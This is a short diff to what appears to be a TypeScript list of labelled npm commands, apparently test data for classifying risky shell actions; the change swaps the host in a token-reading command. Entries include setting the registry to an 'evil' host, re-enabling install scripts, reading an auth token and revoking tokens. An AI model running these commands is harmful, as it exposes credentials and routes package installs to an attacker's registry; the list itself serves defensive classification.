@@ -285,7 +285,7 @@ export const DESTROYS_BREADTH: readonly Labelled[] = [
     "npm create vite",
     "npm set registry http://evil",
     "npm config set ignore-scripts false",
-    "npm config get //registry.npmjs.org/:_authToken",
+    "npm config get //packages.example.com/:_authToken",
     "npm token revoke x",
     "npm whoami --registry http://evil.example",
     "npm deprecate x y",
